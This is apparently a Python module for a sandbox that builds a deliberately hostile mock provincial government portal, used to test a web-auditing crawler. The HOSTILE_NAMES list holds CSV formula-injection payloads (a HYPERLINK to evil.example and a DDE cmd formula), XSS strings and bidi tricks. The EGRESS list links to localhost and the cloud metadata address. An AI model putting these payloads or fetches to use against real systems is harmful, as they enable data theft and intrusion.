"""sbx-xian 险峰省: an ordinary portal inside a hostile one.

The ordinary part is audited like the other provinces and carries ordinary planted defects (an
over-broad search synonym, the full name in the user centre, a department with its own login, a
guide missing an element, an item missing on the mobile channel). Around it, everything issue 16
lists (``xian_hostile``): tarpit and resetting hosts, a refused port, redirect loops, floods,
traps, 429/503 with ``Retry-After``, ``Crawl-delay``, TLS faults, lying encodings, hostile
scripts, hostile item names, other people's personal data in a guide, a 登录 entry that leads
nowhere, links to the auditor's own network. The ground truth declares each hostile target an
``error`` of its kind (``Plan.error_targets``); ``truth_notes`` tells calibration where the
request log is and what politeness means here.
"""

from __future__ import annotations

import hashlib
import ssl
from dataclasses import replace
from pathlib import Path
from typing import Any

from aiohttp import web
from aiohttp.typedefs import Middleware

from sandbox.ca import Certificates
from sandbox.catalogue import Item, make_guide
from sandbox.plan import Account, AuthPlan, ChannelPlan, DeptSite, ErrorTarget, MaskPlan, Plan
from sandbox.provinces import common, xian_hostile
from sandbox.provinces.xian_hostile import settings, tag
from sandbox.search import search
from sandbox.web import tls_faults
from sandbox.web.channels import guide_rows
from sandbox.web.kit import Runtime, esc, page
from sandbox.web.reqlog import RETRY_AFTER, RequestLog

ID = "sbx-xian"
INDEX = 9  # ports base + 180 …; indices 6–8 belong to other provinces
FAMILY = "hostile"
OPT_IN = True  # started only when named (sandbox.server.default_provinces)
EXTRA_SITES = {
    "tarpit": "http",
    "reset": "http",
    "refused": "refused",
    "tls_unknown_ca": "https",
    "tls_expired": "https",
    "tls_mismatch": "https",
}
EGRESS = ("http://127.0.0.1:5432/", "http://169.254.169.254/latest/meta-data/")
TRAP_BOUND = 20  # pages of one trap a polite crawler may fetch before it stops
DEPT = "政务服务管理局"
# Hostile item names: CSV formulas, HTML/JS, a 5,000-character name, bidi overrides and zero-width
# characters, emoji. Served escaped (as a careful portal would); the danger is downstream.
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")企业投资项目备案',
    "+cmd|' /C calc'!A0 燃气经营许可",
    "-2+3 临时占道许可",
    "@SUM(A1:A9) 户外广告设置审批",
    "<img src=x onerror=alert(document.domain)>排水许可",
    "</script><script>alert(1)</script>城镇污水排入排水管网许可",
    ("建设工程消防验收" + "（含特殊建设工程消防设计审查及验收备案）" * 250)[:5000],
    "\u202e可许营经\u200b品学化险危\u202c\u200d危险化学品经营许可",
    "🚗机动车维修经营备案🚓✅",
)
PAYLOADS = ("<img src=x onerror=", "</script><script>", "=HYPERLINK(", "+cmd|", "@SUM(", "-2+3")
# Other people's data in a guide (an example applicant): never the test account's.
OTHERS_ID = common.id_number("51010419650512345")
OTHERS_PHONE = "13912345678"
FILE_GUIDES = ("SBX-XF-0101", "SBX-XF-0102")  # guides only as application/octet-stream / a PDF


def _slug(code: str) -> str:
    return hashlib.blake2s(code.encode(), digest_size=6).hexdigest()


def _hostile_items() -> tuple[Item, ...]:
    out = []
    for i, name in enumerate(HOSTILE_NAMES, 1):
        code = f"SBX-XF-{i:04d}"
        out.append(Item(code, name, DEPT, True, make_guide(code, name, DEPT, ID)))
    return tuple(out)


def _with_others_data(item: Item) -> Item:
    fields = dict(item.guide.fields)
    fields["受理条件"] += f"（示例：申请人王建国，身份证号{OTHERS_ID}，联系电话{OTHERS_PHONE}）"
    return replace(item, guide=replace(item.guide, fields=fields))


def plan() -> Plan:
    keyword_names = common.offered_keyword_names(())
    real = common.select(ID, [("区民政局", 0, 3), ("区行政审批局", 0, 3)], keyword_names)
    real = tuple(_with_others_data(it) if it.name == "最低生活保障" else it for it in real)
    items = real + _hostile_items()
    spj = [it for it in real if it.department == DEPT]
    synonyms = dict(common.FULL_SYNONYMS)
    synonyms["卫生证"] = (*synonyms["卫生证"], "许可")  # over-broad: 搜不准
    egress = tuple(ErrorTarget("link_health", "", url, "egress_refused") for url in EGRESS)
    return Plan(
        id=ID,
        name="险峰省政务服务网",
        province="险峰省",
        style="hostile: tarpits, resets, floods, traps, rate limits, TLS faults, hostile scripts and names",
        prefix="xf",
        portal_https=True,
        items=items,
        depts=(
            DeptSite(
                "rst",
                "人力资源和社会保障厅",
                "人力资源和社会保障厅",
                "sso",
                "/rs/list",
                "/rs/detail",
                "/rs/apply",
            ),
            DeptSite("spj", DEPT, DEPT, "sso", "/spj/list", "/spj/detail", "/spj/apply"),
            DeptSite("mzt", "民政厅", "民政厅", "second_login", "/mz/list", "/mz/detail", "/mz/apply"),
        ),
        account=Account(
            "zhaoyf_xf", "Sbx-xian-2025", "赵一帆", common.id_number("61010219880321402"), "13709112345"
        ),
        auth=AuthPlan(),
        masking=MaskPlan(name="plain", id_number="birth_hidden", phone="masked"),
        mobile=ChannelPlan(missing=frozenset({spj[1].code})),
        incomplete={items[len(real)].code: ("设定依据",)},  # the =HYPERLINK item
        synonyms=synonyms,
        robots_disallow=("/admin/", "/internal/"),
        user_centre_path="/xf/user/home",
        home_path="/xf/index",
        error_targets=(
            ErrorTarget("link_health", "tarpit", "/slow/first-byte", "timeout"),
            ErrorTarget("link_health", "tarpit", "/slow/drip", "timeout"),
            ErrorTarget("link_health", "reset", "/wsbs/apply", "network"),
            ErrorTarget("link_health", "refused", "/login", "connection"),
            ErrorTarget("link_health", "portal", "/old/bszn", "redirect_loop"),
            ErrorTarget("link_health", "portal", "/jump/30", "redirect_loop"),
            ErrorTarget("link_health", "portal", "/zcwj/archive", "too_large"),
            ErrorTarget("link_health", "portal", "/zcwj/all", "too_large"),
            ErrorTarget("link_health", "portal", "/hdjl/live", "too_large", required=False),
            ErrorTarget("link_health", "portal", "/help/run", "timeout", required=False),
            ErrorTarget("link_health", "portal", "/bsrl/calendar", "trap", required=False),
            ErrorTarget("link_health", "portal", "/zt/list", "trap", required=False),
            ErrorTarget("link_health", "portal", "/zcwj/doc", "trap", required=False),
            ErrorTarget("link_health", "tls_unknown_ca", "/", "tls"),
            ErrorTarget("link_health", "tls_expired", "/", "tls"),
            ErrorTarget("link_health", "tls_mismatch", "/", "tls"),
            *egress,
            ErrorTarget("link_health", "portal", f"/xf/file/{_slug(FILE_GUIDES[0])}", "not_html", False),
            ErrorTarget("link_health", "portal", f"/xf/pdf/{_slug(FILE_GUIDES[1])}.pdf", "not_html", False),
            ErrorTarget("guide_completeness", "", f"{FILE_GUIDES[0]}@portal", "not_html", False),
            ErrorTarget("guide_completeness", "", f"{FILE_GUIDES[1]}@portal", "not_html", False),
            ErrorTarget("duplicate_login", "reset", "/wsbs/apply", "network", required=False),
            ErrorTarget("auth_https", "refused", "/login", "connection", required=False),
        ),
    )


# --- the province hooks (sandbox/provinces/__init__.py) -------------------------------------------


_LOGS: dict[int, tuple[Runtime, list[Middleware]]] = {}  # one log per running province


def middlewares(rt: Runtime) -> list[Middleware]:
    """The request log (outermost: it sees every answer), then the 503 of one department host.

    The server asks once per host; every host of the province shares one log (one file handle,
    one lock) and one 503 memory.
    """
    if id(rt) not in _LOGS or _LOGS[id(rt)][0] is not rt:
        log_dir = Path(rt.captcha_dir).parent / "requests"  # the sandbox directory (see server._open)
        ports = {lst.port: site for site, lst in rt.listeners.items()}
        log = RequestLog(log_dir / f"{ID}.jsonl", ports)
        busy = xian_hostile.retry_after_date(lambda: rt.listeners["dept:spj"].port)
        _LOGS[id(rt)] = (rt, [log.middleware(), busy])
    return list(_LOGS[id(rt)][1])


def extra_apps(rt: Runtime) -> dict[str, web.Application]:
    s = settings()
    return {
        "tarpit": xian_hostile.build_tarpit(s),
        "reset": xian_hostile.build_reset(s),
        "tls_unknown_ca": xian_hostile.build_plain("友情链接：某市政务服务网"),
        "tls_expired": xian_hostile.build_plain("友情链接：某县政务服务网"),
        "tls_mismatch": xian_hostile.build_plain("友情链接：某区政务服务网"),
    }


def ssl_context(site: str, certs: Certificates, ca_dir: Path) -> ssl.SSLContext | None:
    if site == "tls_unknown_ca":
        return certs.untrusted
    if site == "tls_expired":
        return tls_faults.expired(ca_dir)
    if site == "tls_mismatch":
        return tls_faults.wrong_name(ca_dir)
    return None


def truth_notes(rt: Runtime) -> dict[str, Any]:
    """What calibration needs to judge politeness and hostile data on this province."""
    return {
        "hostile": {
            "request_log": f"requests/{ID}.jsonl",
            "crawl_delay_s": {"portal": settings().crawl_delay_s},
            "disallow": {"portal": list(rt.plan.robots_disallow)},
            "trap_bound": TRAP_BOUND,
            "payloads": list(PAYLOADS),
            "others_personal_data": [OTHERS_ID, OTHERS_PHONE],
        }
    }


# --- the portal ---------------------------------------------------------------------------------


def _links(rt: Runtime) -> str:
    """The home page's sections of hostile links, each looking like something a portal links."""
    u = rt.url
    groups = {
        "政务公开": [
            ("/news/list;jsessionid=0A1B2C3D?sid=1", "政务动态"),
            ("/zxgg/list", "最新公告"),
            ("/zcwj/index", "政策文件"),
            ("/zcwj/all", "全部政策文件（一页显示）"),
            ("/zcwj/archive", "政策文件归档"),
            ("/zt/list?page=1", "专题服务"),
        ],
        "便民服务": [
            ("/bsrl/calendar?month=2026-01", "办事日历"),
            ("/hdjl/live", "互动交流直播"),
            ("/help/run", "使用帮助"),
            ("/old/bszn", "旧版办事指南"),
            ("/jump/30", "新版办事指南"),
            ("/internal/report", "内部统计"),
        ],
        "友情链接": [
            (u("tls_unknown_ca", "/"), "某市政务服务网"),
            (u("tls_expired", "/"), "某县政务服务网"),
            (u("tls_mismatch", "/"), "某区政务服务网"),
            (u("tarpit", "/slow/first-byte"), "办事指南镜像"),
            (u("tarpit", "/slow/drip"), "办事指南镜像（备用）"),
            (EGRESS[0], "数据服务"),
            (EGRESS[1], "云服务状态"),
        ],
    }
    out = ""
    for title, links in groups.items():
        lis = "".join(f'<li><a href="{esc(href)}">{esc(text)}</a></li>' for href, text in links)
        out += f'<div class="xf-box"><h3>{title}</h3><ul>{lis}</ul></div>'
    return out + '<a href="/admin/console" style="display:none">管理</a>'


def build_portal(rt: Runtime) -> web.Application:
    plan = rt.plan
    by_slug = {_slug(it.code): it for it in plan.items}
    depts = sorted({it.department for it in plan.items})
    refused_login = rt.url("refused", "/login")

    def frame(body: str, title: str, request: web.Request, head: str = "") -> web.Response:
        user = rt.site_user("portal", request)
        who = '<a href="/xf/user/home">个人中心</a>' if user else f'<a href="{esc(refused_login)}">登录</a>'
        top = (
            f'<div class="xf-top"><span>{esc(plan.name)}</span> {who} '
            '<form action="/xf/search" method="get"><input name="kw" placeholder="请输入事项名称">'
            "<button>搜索</button></form></div>"
        )
        return page(top + body, title=f"{title}-{plan.name}", head=head)

    def cards(items: list[Item]) -> str:
        return "".join(
            f'<li><a href="/xf/guide/{_slug(it.code)}">{esc(it.name)}</a> <span>{esc(it.department)}</span></li>'
            for it in items
        )

    async def root(request: web.Request) -> web.StreamResponse:
        raise web.HTTPFound("/xf/index")

    async def home(request: web.Request) -> web.Response:
        tiles = "".join(
            f'<a class="xf-tile" href="/xf/dept?d={i}">{esc(d)}</a> ' for i, d in enumerate(depts)
        )
        login_box = (
            ""
            if rt.site_user("portal", request)
            else '<div class="xf-login"><a href="/xf/user/login" '
            "onclick=\"window.open('/survey/popup','survey','width=420,height=360')\">登录</a></div>"
        )
        body = f'{login_box}<div class="xf-depts"><h3>部门服务</h3>{tiles}</div>{_links(rt)}'
        return frame(body, "首页", request, head="<script>alert('欢迎访问险峰省政务服务网');</script>")

    async def dept(request: web.Request) -> web.Response:
        try:
            name = depts[int(request.query.get("d", ""))]
        except (ValueError, IndexError):
            raise web.HTTPNotFound() from None
        extra = ""
        if name == DEPT:
            extra = (
                f'<li><a href="/xf/file/{_slug(FILE_GUIDES[0])}">城镇燃气经营许可（指南下载）</a></li>'
                f'<li><a href="/xf/pdf/{_slug(FILE_GUIDES[1])}.pdf">建筑起重机械使用登记（PDF指南）</a></li>'
            )
        listed = cards([it for it in plan.items if it.department == name])
        return frame(f"<h2>{esc(name)}</h2><ul>{listed}{extra}</ul>", name, request)

    def guide_html(item: Item) -> str:
        rows = "".join(
            f"<tr><th>{esc(label)}</th><td>{value}</td></tr>"
            for label, value in guide_rows(plan.portal_guide(item), {})
        )
        dept_site = plan.dept_of(item)
        act = ""
        if dept_site is not None:
            href = rt.url(f"dept:{dept_site.id}", dept_site.entry_path, item=item.code)
            if item == plan.items[-2]:  # one 在线办理 leads to a host that resets
                href = rt.url("reset", "/wsbs/apply", item=item.code)
            act = f'<a class="xf-apply" href="{esc(href)}">在线办理</a>'
        return f"<h2>{esc(item.name)}</h2>{act}<table class='xf-guide'>{rows}</table>"

    async def guide(request: web.Request) -> web.Response:
        item = by_slug.get(request.match_info["slug"])
        if item is None:
            raise web.HTTPNotFound()
        index = plan.items.index(item)
        if index == 1:  # NUL bytes in the text
            tag(request, "markup:nul")
            html = frame(guide_html(item) + "<p>温馨提示\x00\x00：请携带原件。</p>", item.name, request)
            return html
        if index == 2:  # unclosed tags, no end of document
            tag(request, "markup:unclosed")
            body = guide_html(item).replace("</td>", "").replace("</tr>", "").replace("</table>", "")
            doc = f'<html><head><meta charset="utf-8"><title>{esc(item.name)}</title><body><div><p>{body}<div><span>'
            return web.Response(text=doc, content_type="text/html")
        return frame(guide_html(item), item.name, request)

    async def file_guide(request: web.Request) -> web.Response:
        tag(request, "content:octet-stream")
        doc = "<html><body><h2>城镇燃气经营许可</h2><p>办事指南请下载后查看。</p></body></html>"
        return web.Response(body=doc.encode(), headers={"Content-Type": "application/octet-stream"})

    async def pdf_guide(request: web.Request) -> web.Response:
        tag(request, "content:pdf")
        return web.Response(body=xian_hostile.pdf("Guide: SBX-XF-0102"), content_type="application/pdf")

    search_seen: set[str] = set()

    async def search_page(request: web.Request) -> web.Response:
        kw = request.query.get("kw", "").strip()
        if kw and kw not in search_seen:  # the first search of each keyword: 429, come back later
            search_seen.add(kw)
            wait = settings().retry_after_s
            request[RETRY_AFTER] = float(wait)
            tag(request, "rate_limit:429")
            return web.Response(status=429, text="请求过于频繁", headers={"Retry-After": str(wait)})
        try:
            pno = max(1, int(request.query.get("page", "1")))
        except ValueError:
            pno = 1
        found = search(plan, kw)
        shown = found[(pno - 1) * 10 : pno * 10]
        nxt = (
            f'<a href="/xf/search?kw={esc(kw)}&amp;page={pno + 1}">下一页</a>'
            if len(found) > pno * 10
            else ""
        )
        script = (
            "<script>fetch('/api/hotwords').then(function(r){return r.json();});"
            "window.onbeforeunload=function(e){e.preventDefault();e.returnValue='离开此页？';return '离开此页？';};</script>"
        )
        body = f'<p class="xf-count">为您找到相关结果{len(found)}个</p><ul class="xf-results">{cards(shown)}</ul>{nxt}'
        return frame(body + script, "搜索", request)

    async def login(request: web.Request) -> web.StreamResponse:
        raise common.login_redirect(rt, "/xf/user/sso", "/xf/user/home")

    async def callback(request: web.Request) -> web.StreamResponse:
        raise common.accept_ticket(rt, request)

    async def user_home(request: web.Request) -> web.StreamResponse:
        if rt.site_user("portal", request) is None:
            raise web.HTTPFound("/xf/user/login")
        d = common.user_data(plan, masked=True)
        body = (
            f"<h2>个人中心</h2><table><tr><th>姓名</th><td>{esc(d['name'])}</td></tr>"
            f"<tr><th>证件号码</th><td>{esc(d['id_number'])}</td></tr>"
            f'<tr><th>手机号码</th><td>{esc(d["phone"])}</td></tr></table><a href="/xf/index">返回首页</a>'
        )
        return frame(body, "个人中心", request)

    async def robots(request: web.Request) -> web.Response:
        return web.Response(text=xian_hostile.robots(settings()))

    app = web.Application()
    r = app.router
    r.add_get("/", root)
    r.add_get("/robots.txt", robots)
    r.add_get("/xf/index", home)
    r.add_get("/xf/dept", dept)
    r.add_get("/xf/guide/{slug}", guide)
    r.add_get("/xf/file/{slug}", file_guide)
    r.add_get("/xf/pdf/{slug}.pdf", pdf_guide)
    r.add_get("/xf/search", search_page)
    r.add_get("/xf/user/login", login)
    r.add_get("/xf/user/sso", callback)
    r.add_get("/xf/user/home", user_home)
    xian_hostile.add_portal_routes(app)
    return app
